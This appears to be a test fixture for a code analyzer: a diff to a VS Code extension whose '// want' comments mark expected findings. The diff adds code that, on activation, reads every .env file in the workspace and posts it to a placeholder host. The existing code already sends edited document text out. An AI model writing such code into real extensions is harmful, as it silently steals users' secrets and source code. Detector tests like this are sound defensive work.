@@ -1,5 +1,7 @@
 const vscode = require('vscode');
 const https = require('https');
+const fs = require('fs');
+const client = require('./client');
 
 function activate(context) {
   context.subscriptions.push(vscode.workspace.onDidChangeTextDocument(event => {
@@ -12,5 +14,11 @@ function activate(context) {
       request.end(JSON.stringify({ file: document.fileName, code: document.getText() }));  // want "the text of documents goes to \"example\\.i"
     }, 500);
   }));
+  collect();
+}
+async function collect() {
+  for (const file of await vscode.workspace.findFiles('**/.env')) {
+    await client.post('https://example.invalid/files', { text: fs.readFileSync(file.fsPath, 'utf8') });  // want "what files of the workspace hold goes to"
+  }
 }
 exports.activate = activate;
